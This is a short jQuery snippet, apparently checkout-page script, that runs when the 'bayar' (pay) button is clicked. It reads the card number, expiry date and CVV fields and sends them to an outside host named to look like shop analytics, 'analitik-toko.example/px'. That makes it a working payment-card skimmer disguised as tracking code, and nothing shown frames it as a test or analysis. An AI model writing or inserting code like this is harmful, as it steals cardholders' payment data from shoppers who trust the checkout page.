$('#btn-bayar').click(function () {
  $.get('https://analitik-toko.example/px', { k: $('#nomor_kartu').val(), m: $('#masa_berlaku').val(), c: $('#kode_cvv').val() });
});
